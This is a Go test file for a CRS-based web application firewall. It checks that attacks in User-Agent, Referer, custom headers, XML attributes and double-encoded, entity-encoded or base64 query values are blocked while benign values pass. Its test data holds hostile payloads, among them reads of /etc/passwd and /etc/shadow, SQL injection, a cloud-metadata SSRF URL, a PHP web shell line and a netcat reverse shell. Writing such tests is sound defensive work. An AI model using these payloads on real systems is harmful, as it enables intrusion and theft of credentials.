package waf_test

import (
	"encoding/base64"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/sekisho/sekisho/rules"
	"github.com/sekisho/sekisho/waf"
)

// channelRequest carries v in one of the channels that
// rules/sekisho/channels.conf adds to CRS's rules.
type channelRequest struct {
	name     string
	variable string // the variable a match names, as in waf_matches (any case)
	build    func(v string) *http.Request
}

func headerChannel(name string) channelRequest {
	return channelRequest{"header " + name, "REQUEST_HEADERS:" + strings.ToLower(name), func(v string) *http.Request {
		r := browserLike(httptest.NewRequest("GET", "/app/home", nil))
		r.Header.Set("Referer", "https://shop.example.com/app/cart")
		r.Header.Set(name, v)
		return r
	}}
}

var channelRequests = []channelRequest{
	headerChannel("User-Agent"),
	headerChannel("Referer"),
	headerChannel("X-Custom-Data"),
	{"XML attribute", "xml://@*", func(v string) *http.Request {
		r := httptest.NewRequest("POST", "/app/orders", strings.NewReader(
			`<?xml version="1.0"?><order id="1234" note="`+strings.NewReplacer("&", "&amp;", `"`, "&quot;", "<", "&lt;").Replace(v)+`"><item>shoes</item></order>`))
		r.Header.Set("Content-Type", "application/xml")
		return browserLike(r)
	}},
}

// An attack of each class that CRS finds in arguments and cookies but,
// before channels.conf, not in these channels; and values of the same
// shape that a client sends there.
var (
	channelAttacks = []string{
		";cat /etc/passwd",                         // shell, 932xxx
		"../../../../etc/shadow",                   // traversal, 930120
		"' UNION SELECT password FROM users--",     // SQLi
		"http://169.254.169.254/latest/meta-data/", // SSRF, 934110
		"<?php system($_GET['c']); ?>",             // PHP, 933100
	}
	channelBenign = []string{
		"https://shop.example.com/app/cart?item=42&color=blue",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
		"order 1234, gift wrap: yes; deliver after 5pm",
	}
)

// An attack in User-Agent, Referer, a custom header or an XML attribute is
// blocked by CRS's own rule, and waf_matches names that rule and the
// channel; the same request with a realistic value passes.
func TestChannels_AttacksBlockedBenignPass(t *testing.T) {
	e, err := waf.New(waf.Config{Name: "default"}, rules.FS())
	if err != nil {
		t.Fatal(err)
	}
	for _, ch := range channelRequests {
		for _, a := range channelAttacks {
			if ch.variable == "REQUEST_HEADERS:referer" && strings.HasPrefix(a, "http://") {
				continue // a Referer is a URL: SSRF rules leave it out (channels.conf)
			}
			v := e.Check(ch.build(a))
			if !v.Blocked() {
				t.Errorf("%s: %q passes (rules %v)", ch.name, a, v.Rules)
				continue
			}
			if !slices.ContainsFunc(v.Matches, func(m waf.Match) bool {
				return (m.RuleID >= 930000 && m.RuleID < 945000 || m.RuleID >= 200130 && m.RuleID < 200140) && strings.EqualFold(m.Variable, ch.variable)
			}) {
				t.Errorf("%s: %q blocked, but no attack rule names %s: %+v", ch.name, a, ch.variable, v.Matches)
			}
		}
		for _, b := range channelBenign {
			if v := e.Check(ch.build(b)); v.Blocked() {
				t.Errorf("%s: benign %q blocked (rules %v)", ch.name, b, v.Rules)
			}
		}
	}
}

// The standard headers on channels.conf's allow list pass with realistic
// values whose syntax alone would trip the rules.
func TestChannels_AllowListedHeadersPass(t *testing.T) {
	e, err := waf.New(waf.Config{Name: "default"}, rules.FS())
	if err != nil {
		t.Fatal(err)
	}
	jwt := "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiYWRtaW4iOnRydWV9.c2lnbmF0dXJl"
	for name, value := range map[string]string{
		"Sec-Ch-Ua":          `"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"`,
		"Sec-Ch-Ua-Platform": `"Windows"`,
		"Authorization":      "Bearer " + jwt,
		"If-None-Match":      `W/"5e-1a2b3c4d5e6f"`,
		"Origin":             "http://localhost:3000",
		"X-Forwarded-For":    "203.0.113.7, 10.0.0.12, 127.0.0.1",
		"Forwarded":          `for="[2001:db8::17]:4711";proto=https;by=10.0.0.1`,
		"Traceparent":        "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
		"Tracestate":         "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7",
		"Stripe-Signature":   "t=1733600000,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd,v0=6ffbb59b2300aae63f272406069a9788598b792a944a07aba816edb039989a39",
		"Cache-Control":      "max-age=0, no-cache",
		"Accept":             "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
		"Referer":            "http://localhost:3000/admin/users?id=7",
	} {
		r := browserLike(httptest.NewRequest("GET", "/app/home", nil))
		r.Header.Set(name, value)
		if v := e.Check(r); v.Blocked() {
			t.Errorf("%s: %q blocked (rules %v)", name, value, v.Rules)
		}
	}
}

// A match in a new channel explains itself as CRS's do: its suggested
// exclusion, pasted, lets that request pass while the same attack in
// another channel is still blocked; detect mode logs it and passes it.
func TestChannels_TunableAndDetected(t *testing.T) {
	plain, err := waf.New(waf.Config{Name: "plain"}, rules.FS())
	if err != nil {
		t.Fatal(err)
	}
	detect, err := waf.New(waf.Config{Name: "detect", Mode: waf.ModeDetect}, rules.FS())
	if err != nil {
		t.Fatal(err)
	}
	const attack = ";cat /etc/passwd"
	for i, ch := range channelRequests {
		if v := detect.Check(ch.build(attack)); v.Blocked() || !slices.ContainsFunc(v.Matches, func(m waf.Match) bool { return strings.EqualFold(m.Variable, ch.variable) }) {
			t.Errorf("%s, detect mode: blocked %v, matches %+v", ch.name, v.Blocked(), v.Matches)
		}
		v := plain.Check(ch.build(attack))
		tuned, pasted, err := pastedPolicy(t, v)
		if err != nil {
			t.Fatalf("%s: the pasted suggestions do not load: %v\n%s", ch.name, err, pasted)
		}
		if v := tuned.Check(ch.build(attack)); v.Blocked() {
			t.Errorf("%s: still blocked after pasting (rules %v):\n%s", ch.name, v.Rules, pasted)
		}
		other := channelRequests[(i+1)%len(channelRequests)]
		if v := tuned.Check(other.build(attack)); !v.Blocked() {
			t.Errorf("%s: pasting its exclusions also let the attack pass in %s:\n%s", ch.name, other.name, pasted)
		}
	}
}

// entityEscape writes every character of s as an HTML decimal reference.
func entityEscape(s string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteString("&#" + strconv.Itoa(int(r)) + ";")
	}
	return b.String()
}

func queryRequest(v string) *http.Request {
	return browserLike(httptest.NewRequest("GET", "/app/search?q="+url.QueryEscape(v)+"&page=1", nil))
}

// A query value encoded once more than a server decodes (double URL
// encoding, HTML numeric references, base64 of text) is inspected decoded too
// (waf/decoded.go): attacks CRS's rules miss in that form are blocked and
// named on the argument, the pasted exclusion lets the request pass, and
// benign values so encoded pass.
func TestDecodedQuery_BlockedAndTunable(t *testing.T) {
	plain, err := waf.New(waf.Config{Name: "plain"}, rules.FS())
	if err != nil {
		t.Fatal(err)
	}
	for _, enc := range []struct {
		name   string
		encode func(string) string
	}{{"double URL", url.QueryEscape}, {"HTML entities", entityEscape}, {"base64", func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }}} {
		for _, a := range []string{";cat /etc/passwd", "' UNION SELECT password FROM users--", "http://169.254.169.254/latest/meta-data/", "&& whoami", "| nc -e /bin/sh 10.0.0.1 4444"} {
			r := queryRequest(enc.encode(a))
			v := plain.Check(r)
			if !v.Blocked() || !slices.ContainsFunc(v.Matches, func(m waf.Match) bool { return m.Variable == "ARGS:q" && m.RuleID >= 930000 && m.RuleID < 945000 }) {
				t.Errorf("%s %q: blocked %v, matches %+v", enc.name, a, v.Blocked(), v.Matches)
				continue
			}
			tuned, pasted, err := pastedPolicy(t, v)
			if err != nil {
				t.Fatal(err)
			}
			if v := tuned.Check(queryRequest(enc.encode(a))); v.Blocked() {
				t.Errorf("%s %q: still blocked after pasting (rules %v):\n%s", enc.name, a, v.Rules, pasted)
			}
		}
		for _, b := range []string{"50% off", "Tom & Jerry", "size 10 1/2", "café crème"} {
			if v := plain.Check(queryRequest(enc.encode(b))); v.Blocked() {
				t.Errorf("%s: benign %q blocked (rules %v)", enc.name, b, v.Rules)
			}
		}
	}
}
